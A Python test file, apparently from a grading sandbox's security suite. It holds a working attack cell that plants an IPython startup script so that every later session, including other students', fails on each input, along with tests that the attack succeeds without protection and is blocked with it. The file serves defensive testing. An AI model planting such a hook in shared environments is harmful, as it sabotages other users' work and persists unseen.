"""Leave a file that every later IPython runs when it starts: the next student's, too.

Here it spoils whatever the others wrote; it could as well hand them over.
"""

from attack import Attack, assert_harmless
from attack_course import HONEST

ATTACK = Attack(
    cell="""
import os
from pathlib import Path

folders = [os.environ.get("IPYTHONDIR", "~/.ipython"), get_ipython().ipython_dir or "~/.ipython"]
for folder in map(Path, folders):
    startup = folder.expanduser() / "profile_default" / "startup"
    startup.mkdir(parents=True, exist_ok=True)
    (startup / "00-spoil.py").write_text(
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['1 / 0'])"
    )
""",
    stock_students=(HONEST[1],),
)


def test_works_without_protection(unprotected):
    assert sum(unprotected.points_of(HONEST[1]).values()) == 0


def test_is_stopped(protected):
    assert_harmless(protected)
